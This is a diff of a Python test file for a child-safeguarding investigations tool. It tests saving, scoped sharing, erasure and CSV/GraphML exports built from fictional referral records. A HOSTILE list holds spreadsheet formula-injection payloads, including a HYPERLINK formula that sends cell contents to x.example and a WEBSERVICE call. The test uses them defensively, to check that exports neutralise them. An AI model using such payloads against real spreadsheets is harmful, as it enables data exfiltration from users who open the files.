@@ -6,18 +6,18 @@ from __future__ import annotations
 import csv
 import io
 import json
-from datetime import date
+from datetime import UTC, date
 
 import networkx as nx
 import pytest
 from pydantic import ValidationError
 
+from governance.erasure import erase_person, erase_records
 from investigations import export, store
 from investigations.models import MAX_NOTE_CHARS, MAX_PEOPLE, Drawing, tie_key
 from investigations.snapshot import catalogue_runner
 from investigations.workspace import reopen, save_new
 from jigsaw.access import FULL_SCOPE, Scope
-from governance.erasure import erase_person, erase_records
 from tests.builders import folder_with, hsb_case, load, nominal, referral
 
 pytestmark = pytest.mark.neo4j
@@ -26,8 +26,9 @@ HACKNEY_MASH_HSB = Scope(sources=("mash", "hsb"), boroughs=("Hackney",))
 
 
 def people(graph, db) -> dict[str, str]:
-    rows = graph.execute_query("MATCH (m:Mention)-[:REFERS_TO]->(p:Person) RETURN DISTINCT m.name AS name, p.person_id AS id",
-                               database_=db).records  # fmt: skip
+    rows = graph.execute_query(
+        "MATCH (m:Mention)-[:REFERS_TO]->(p:Person) RETURN DISTINCT m.name AS name, p.person_id AS id", database_=db
+    ).records
     return {r["name"]: r["id"] for r in rows}
 
 
@@ -35,19 +36,29 @@ def first_load(graph, db, tmp_path, name_prefix: str = "") -> dict[str, str]:
     """Amelia (R1) and Bella (R2, Haringey) name Kyle; Kyle is a nominal; Bella is harmed in HSB-1 by Jayden."""
     folder = folder_with(
         tmp_path / "first",
-        mash=[referral("R1", f"{name_prefix}Amelia Hughes", "2008-03-01", suspect="Kyle Johnson"),
-              referral("R2", "Bella Jones", "2009-01-01", suspect="Kyle Johnson", borough="Haringey")],
+        mash=[
+            referral("R1", f"{name_prefix}Amelia Hughes", "2008-03-01", suspect="Kyle Johnson"),
+            referral("R2", "Bella Jones", "2009-01-01", suspect="Kyle Johnson", borough="Haringey"),
+        ],
         matrix=[nominal("GM-1", "Kyle Johnson", "2001-05-05")],
         hsb=[hsb_case("HSB-1", "Jayden Smith", "Bella Jones")],
-    )  # fmt: skip
+    )
     load(graph, db, folder, tmp_path)
     return people(graph, db)
 
 
 def save(graph, db, ids: list[str], *, owner="owner.one", scope=FULL_SCOPE, name="Clapton peer group", **drawing):
     run = catalogue_runner(graph, db, scope)
-    return save_new(graph, db, run, name=name, case_ref="CASE-77", owner=owner, purpose="CASE-77",
-                    drawing=Drawing(people=ids, **drawing))  # fmt: skip
+    return save_new(
+        graph,
+        db,
+        run,
+        name=name,
+        case_ref="CASE-77",
+        owner=owner,
+        purpose="CASE-77",
+        drawing=Drawing(people=ids, **drawing),
+    )
 
 
 def test_save_change_and_reopen_marks_what_changed(graph, db, tmp_path):
@@ -58,10 +69,18 @@ def test_save_change_and_reopen_marks_what_changed(graph, db, tmp_path):
     assert ids["Bella Jones"] in inv.snapshot.reach  # one step from Kyle (R2) and Jayden (HSB-1)
 
     # The data changes: a new referral names Amelia with a new suspect and Jayden; R1's category rises.
-    load(graph, db, folder_with(tmp_path / "second", mash=[
-        referral("R3", "Amelia Hughes", "2008-03-01", suspect="Zane Okafor", date_received="2024-06-01"),
-        referral("R1", "Amelia Hughes", "2008-03-01", suspect="Kyle Johnson", cse_category="3"),
-    ]), tmp_path)  # fmt: skip
+    load(
+        graph,
+        db,
+        folder_with(
+            tmp_path / "second",
+            mash=[
+                referral("R3", "Amelia Hughes", "2008-03-01", suspect="Zane Okafor", date_received="2024-06-01"),
+                referral("R1", "Amelia Hughes", "2008-03-01", suspect="Kyle Johnson", cse_category="3"),
+            ],
+        ),
+        tmp_path,
+    )
     case = hsb_case("HSB-2", "Jayden Smith", "Amelia Hughes")
     case.children[1].dob = date(2008, 3, 1)  # the same Amelia as in MASH
     load(graph, db, folder_with(tmp_path / "third", hsb=[case]), tmp_path)
@@ -69,10 +88,21 @@ def test_save_change_and_reopen_marks_what_changed(graph, db, tmp_path):
 
     opened = reopen(graph, db, catalogue_runner(graph, db, FULL_SCOPE), inv.investigation_id, user="owner.one")
     changes = opened.changes
-    assert {(c["person_id"], c["record_key"]) for c in changes.new_records} >= {(amelia, "mash:R3"), (amelia, "hsb:HSB-2"),
-                                                                               (jayden, "hsb:HSB-2")}  # fmt: skip
-    assert {"person_id": amelia, "record_key": "mash:R1", "what": "CSE category", "before": "1", "after": "3"} in changes.changed
-    assert {(c["a"], c["b"], c["record_key"]) for c in changes.new_ties} == {tuple(sorted((amelia, jayden))) + ("hsb:HSB-2",)}
+    assert {(c["person_id"], c["record_key"]) for c in changes.new_records} >= {
+        (amelia, "mash:R3"),
+        (amelia, "hsb:HSB-2"),
+        (jayden, "hsb:HSB-2"),
+    }
+    assert {
+        "person_id": amelia,
+        "record_key": "mash:R1",
+        "what": "CSE category",
+        "before": "1",
+        "after": "3",
+    } in changes.changed
+    assert {(c["a"], c["b"], c["record_key"]) for c in changes.new_ties} == {
+        tuple(sorted((amelia, jayden))) + ("hsb:HSB-2",)
+    }
     assert zane in changes.new_reach and ids["Bella Jones"] not in changes.new_reach
     assert opened.people == [amelia, kyle, jayden] and opened.outside_scope == 0
     assert opened.drawing.positions[amelia] == (10.0, -20.0) and opened.drawing.pinned == [kyle]
@@ -82,20 +112,38 @@ def test_a_colleague_sees_only_their_scope_and_is_told_how_many_are_outside(grap
     ids = first_load(graph, db, tmp_path)
     amelia, bella, kyle = ids["Amelia Hughes"], ids["Bella Jones"], ids["Kyle Johnson"]
     # Kyle is named by R1 (Hackney MASH) too; Bella only by Haringey MASH and Hackney HSB-1; add one only in Haringey.
-    load(graph, db, folder_with(tmp_path / "h", mash=[referral("R9", "Olivia Quarrington", "2008-07-07", borough="Haringey")]),
-         tmp_path)  # fmt: skip
+    load(
+        graph,
+        db,
+        folder_with(tmp_path / "h", mash=[referral("R9", "Olivia Quarrington", "2008-07-07", borough="Haringey")]),
+        tmp_path,
+    )
     olivia = people(graph, db)["Olivia Quarrington"]
-    inv = save(graph, db, [amelia, bella, kyle, olivia], person_notes={olivia: "Olivia's aunt says she goes to N17"},
-               tie_notes={tie_key(bella, kyle): "seen together at N17 garage"})  # fmt: skip
+    inv = save(
+        graph,
+        db,
+        [amelia, bella, kyle, olivia],
+        person_notes={olivia: "Olivia's aunt says she goes to N17"},
+        tie_notes={tie_key(bella, kyle): "seen together at N17 garage"},
+    )
     with pytest.raises(store.NotFound):
         reopen(graph, db, catalogue_runner(graph, db, HACKNEY_MASH_HSB), inv.investigation_id, user="colleague.two")
     store.share(graph, db, inv.investigation_id, "owner.one", ["colleague.two"])
     assert [r["investigation_id"] for r in store.listing(graph, db, "colleague.two")] == [inv.investigation_id]
 
-    opened = reopen(graph, db, catalogue_runner(graph, db, HACKNEY_MASH_HSB), inv.investigation_id, user="colleague.two")
+    opened = reopen(
+        graph, db, catalogue_runner(graph, db, HACKNEY_MASH_HSB), inv.investigation_id, user="colleague.two"
+    )
     assert set(opened.people) == {amelia, bella, kyle} and opened.outside_scope == 1
-    seen = json.dumps([opened.people, opened.now.model_dump(mode="json"), opened.drawing.model_dump(mode="json"),
-                       opened.changes.__dict__], default=str)  # fmt: skip
+    seen = json.dumps(
+        [
+            opened.people,
+            opened.now.model_dump(mode="json"),
+            opened.drawing.model_dump(mode="json"),
+            opened.changes.__dict__,
+        ],
+        default=str,
+    )
     assert olivia not in seen and "N17" not in seen and "mash:R2" not in seen and "mash:R9" not in seen
     assert "matrix:GM-1" not in seen  # the colleague does not read the gangs matrix
     files = export.graphml(opened, {}) + export.i2_entities(opened, {}) + export.i2_links(opened)
@@ -110,28 +158,43 @@ def test_a_colleague_sees_only_their_scope_and_is_told_how_many_are_outside(grap
 
 
 def _stored(graph, db, investigation_id: str) -> str:
-    record = graph.execute_query("MATCH (i:Investigation {investigation_id: $id}) RETURN i {.*} AS i", id=investigation_id,
-                                 database_=db).records[0]  # fmt: skip
+    record = graph.execute_query(
+        "MATCH (i:Investigation {investigation_id: $id}) RETURN i {.*} AS i", id=investigation_id, database_=db
+    ).records[0]
     return json.dumps(record["i"], default=str)
 
 
 def test_erasure_removes_a_person_from_the_investigation_and_its_snapshot(graph, db, tmp_path):
     ids = first_load(graph, db, tmp_path)
     amelia, kyle, jayden = ids["Amelia Hughes"], ids["Kyle Johnson"], ids["Jayden Smith"]
-    inv = save(graph, db, [amelia, kyle, jayden], person_notes={kyle: "drives a grey Audi"}, pinned=[kyle],
-               positions={kyle: (1.0, 2.0)}, tie_notes={tie_key(amelia, kyle): "met at the chicken shop"})  # fmt: skip
+    inv = save(
+        graph,
+        db,
+        [amelia, kyle, jayden],
+        person_notes={kyle: "drives a grey Audi"},
+        pinned=[kyle],
+        positions={kyle: (1.0, 2.0)},
+        tie_notes={tie_key(amelia, kyle): "met at the chicken shop"},
+    )
     assert kyle in _stored(graph, db, inv.investigation_id)
 
     erase_person(graph, db, kyle, "dpo-1")
     stored = _stored(graph, db, inv.investigation_id)
-    assert kyle not in stored and "grey Audi" not in stored and "chicken shop" not in stored and "matrix:GM-1" not in stored
+    assert (
+        kyle not in stored
+        and "grey Audi" not in stored
+        and "chicken shop" not in stored
+        and "matrix:GM-1" not in stored
+    )
     opened = reopen(graph, db, catalogue_runner(graph, db, FULL_SCOPE), inv.investigation_id, user="owner.one")
     assert opened.people == [amelia, jayden] and opened.outside_scope == 0
 
     erase_records(graph, db, ["mash:R1"], "dpo-1")  # Amelia's only record: she goes from the graph, and from here
     stored = _stored(graph, db, inv.investigation_id)
     assert "mash:R1" not in stored and amelia not in stored
-    assert reopen(graph, db, catalogue_runner(graph, db, FULL_SCOPE), inv.investigation_id, user="owner.one").people == [jayden]
+    assert reopen(
+        graph, db, catalogue_runner(graph, db, FULL_SCOPE), inv.investigation_id, user="owner.one"
+    ).people == [jayden]
 
 
 def test_someone_removed_before_investigations_were_scrubbed_drops_out_on_reopen(graph, db, tmp_path):
@@ -143,22 +206,41 @@ def test_someone_removed_before_investigations_were_scrubbed_drops_out_on_reopen
     assert ids["Jayden Smith"] not in _stored(graph, db, inv.investigation_id)
 
 
-HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3", "@cmd", "<b>Bold</b> & \"Quoted\""]
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", '<b>Bold</b> & "Quoted"']
 
 
 def test_exports_parse_and_hostile_names_are_formula_safe(graph, db, tmp_path):
-    load(graph, db, folder_with(tmp_path / "x", mash=[
-        referral("R1", "Name Zero", "2008-03-01", suspect="Name One"),
-        referral("R2", "Name Two", "2009-01-01", suspect="Name Three"),
-        referral("R3", "Name Four", "2009-02-01", suspect="Name One"),
-    ]), tmp_path)  # fmt: skip
+    load(
+        graph,
+        db,
+        folder_with(
+            tmp_path / "x",
+            mash=[
+                referral("R1", "Name Zero", "2008-03-01", suspect="Name One"),
+                referral("R2", "Name Two", "2009-01-01", suspect="Name Three"),
+                referral("R3", "Name Four", "2009-02-01", suspect="Name One"),
+            ],
+        ),
+        tmp_path,
+    )
     # The loader refuses formula-like names in the common dataset; another system's graph need not.
     for i, hostile in enumerate(HOSTILE):
-        graph.execute_query("MATCH (m:Mention {name: $old}) SET m.name = $new", old=f"Name {['Zero', 'One', 'Two', 'Three', 'Four'][i]}",
-                            new=hostile, database_=db)  # fmt: skip
+        graph.execute_query(
+            "MATCH (m:Mention {name: $old}) SET m.name = $new",
+            old=f"Name {['Zero', 'One', 'Two', 'Three', 'Four'][i]}",
+            new=hostile,
+            database_=db,
+        )
     ids = people(graph, db)
     everyone = sorted(ids.values())
-    inv = save(graph, db, everyone, name="=WEBSERVICE(\"http://x.example\")", person_notes={everyone[0]: "=1+1 note"}, tie_notes={tie_key(*everyone[:2]): "@note"})
+    inv = save(
+        graph,
+        db,
+        everyone,
+        name='=WEBSERVICE("http://x.example")',
+        person_notes={everyone[0]: "=1+1 note"},
+        tie_notes={tie_key(*everyone[:2]): "@note"},
+    )
     run = catalogue_runner(graph, db, FULL_SCOPE)
     opened = reopen(graph, db, run, inv.investigation_id, user="owner.one")
     cards = {r["person_id"]: r for r in run("person_cards", {"person_ids": opened.people})}
@@ -175,7 +257,9 @@ def test_exports_parse_and_hostile_names_are_formula_safe(graph, db, tmp_path):
     links = list(csv.reader(io.StringIO(export.i2_links(opened).decode("utf-8-sig"))))
     assert entities[0] == ["id", "type", "label", "attributes"] and links[0] == ["from", "to", "type", "date", "record"]
     assert {row[0] for row in entities[1:]} == set(everyone) and {row[1] for row in entities[1:]} == {"Person"}
-    assert {row[4] for row in links[1:]} == {"mash:R1", "mash:R2", "mash:R3"} and {row[3] for row in links[1:]} == {"2024-02-14"}
+    assert {row[4] for row in links[1:]} == {"mash:R1", "mash:R2", "mash:R3"} and {row[3] for row in links[1:]} == {
+        "2024-02-14"
+    }
     cells = [cell for row in entities + links for cell in row]
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
     assert any("'=1+1 note" in c for c in cells)
@@ -204,23 +288,37 @@ def test_on_generated_data_a_borough_reader_sees_exactly_the_people_their_record
     # The best-connected person and everyone one step from them.
     centre = graph.execute_query(
         "MATCH (p:Person)<-[:REFERS_TO]-(:Mention)<-[:MENTIONS]-(r:Record) WITH p, count(DISTINCT r) AS n "
-        "ORDER BY n DESC, p.person_id LIMIT 1 RETURN p.person_id AS id", database_=db).records[0]["id"]  # fmt: skip
+        "ORDER BY n DESC, p.person_id LIMIT 1 RETURN p.person_id AS id",
+        database_=db,
+    ).records[0]["id"]
     around = graph.execute_query(
         "MATCH (:Person {person_id: $id})<-[:REFERS_TO]-(:Mention)<-[:MENTIONS]-(:Record)-[:MENTIONS]->(:Mention)"
-        "-[:REFERS_TO]->(q:Person) RETURN collect(DISTINCT q.person_id) AS ids", id=centre, database_=db).records[0]["ids"]  # fmt: skip
+        "-[:REFERS_TO]->(q:Person) RETURN collect(DISTINCT q.person_id) AS ids",
+        id=centre,
+        database_=db,
+    ).records[0]["ids"]
     everyone = sorted(set(around) | {centre})
     inv = save(graph, db, everyone)
     assert set(inv.snapshot.people) == set(everyone)
     borough = graph.execute_query(
         "MATCH (:Person {person_id: $id})<-[:REFERS_TO]-(:Mention)<-[:MENTIONS]-(r:Record {source: "
         "'mash'})-[:IN_BOROUGH]->(b) "
-        "RETURN b.name AS b LIMIT 1", id=centre, database_=db).records  # fmt: skip
+        "RETURN b.name AS b LIMIT 1",
+        id=centre,
+        database_=db,
+    ).records
     reader = Scope(sources=("mash",), boroughs=(borough[0]["b"],) if borough else ("Hackney",))
-    expected = {r["id"] for r in graph.execute_query(
-        "MATCH (p:Person)<-[:REFERS_TO]-(:Mention)<-[:MENTIONS]-(r:Record {source: "
-        "'mash'})-[:IN_BOROUGH]->(b:Borough) "
-        "WHERE p.person_id IN $ids AND b.name IN $boroughs RETURN DISTINCT p.person_id AS id",
-        ids=everyone, boroughs=list(reader.boroughs), database_=db).records}  # fmt: skip
+    expected = {
+        r["id"]
+        for r in graph.execute_query(
+            "MATCH (p:Person)<-[:REFERS_TO]-(:Mention)<-[:MENTIONS]-(r:Record {source: "
+            "'mash'})-[:IN_BOROUGH]->(b:Borough) "
+            "WHERE p.person_id IN $ids AND b.name IN $boroughs RETURN DISTINCT p.person_id AS id",
+            ids=everyone,
+            boroughs=list(reader.boroughs),
+            database_=db,
+        ).records
+    }
     store.share(graph, db, inv.investigation_id, "owner.one", ["colleague.two"])
     opened = reopen(graph, db, catalogue_runner(graph, db, reader), inv.investigation_id, user="colleague.two")
     assert set(opened.people) == expected and opened.outside_scope == len(everyone) - len(expected)
@@ -237,23 +335,39 @@ def test_on_generated_data_a_borough_reader_sees_exactly_the_people_their_record
 def test_compare_marks_a_changed_role_once_and_says_nothing_of_records_it_cannot_see_now():
     """Shapes the generator never makes: a record that now gives someone another role, a person named
     twice in one record, and records known at saving that the reader cannot see now."""
-    from datetime import datetime, timezone
+    from datetime import datetime
 
     from investigations.models import RecordFact, Snapshot, Tie
     from investigations.snapshot import compare
 
-    at = datetime(2025, 1, 1, tzinfo=timezone.utc)
-    saved = Snapshot(taken_at=at, people={
-        "P-a": [RecordFact(record_key="mash:1", role="suspected_perpetrator", cse_category="1"),
-                RecordFact(record_key="mash:2", role="child_at_risk", cse_category="2")],
-        "P-b": [RecordFact(record_key="matrix:9", role="gang_nominal")]}, ties=[Tie(a="P-a", b="P-b", record_key="mash:2")],
-        reach=["P-c"])  # fmt: skip
-    now = Snapshot(taken_at=at, people={
-        "P-a": [RecordFact(record_key="mash:1", role="child_at_risk", cse_category="2"),
-                RecordFact(record_key="mash:1", role="associate", cse_category="2")]}, reach=["P-c", "P-d"])  # fmt: skip
+    at = datetime(2025, 1, 1, tzinfo=UTC)
+    saved = Snapshot(
+        taken_at=at,
+        people={
+            "P-a": [
+                RecordFact(record_key="mash:1", role="suspected_perpetrator", cse_category="1"),
+                RecordFact(record_key="mash:2", role="child_at_risk", cse_category="2"),
+            ],
+            "P-b": [RecordFact(record_key="matrix:9", role="gang_nominal")],
+        },
+        ties=[Tie(a="P-a", b="P-b", record_key="mash:2")],
+        reach=["P-c"],
+    )
+    now = Snapshot(
+        taken_at=at,
+        people={
+            "P-a": [
+                RecordFact(record_key="mash:1", role="child_at_risk", cse_category="2"),
+                RecordFact(record_key="mash:1", role="associate", cse_category="2"),
+            ]
+        },
+        reach=["P-c", "P-d"],
+    )
     changes = compare(saved, now)
     assert not changes.new_records and not changes.new_ties and changes.new_reach == ["P-d"]
     assert [(c["what"], c["before"], c["after"]) for c in changes.changed] == [
-        ("role", "suspected_perpetrator", "child_at_risk"), ("CSE category", "1", "2"),
-        ("role", "suspected_perpetrator", "associate")]  # fmt: skip
+        ("role", "suspected_perpetrator", "child_at_risk"),
+        ("CSE category", "1", "2"),
+        ("role", "suspected_perpetrator", "associate"),
+    ]
     assert "matrix:9" not in json.dumps(changes.__dict__) and "mash:2" not in json.dumps(changes.__dict__)
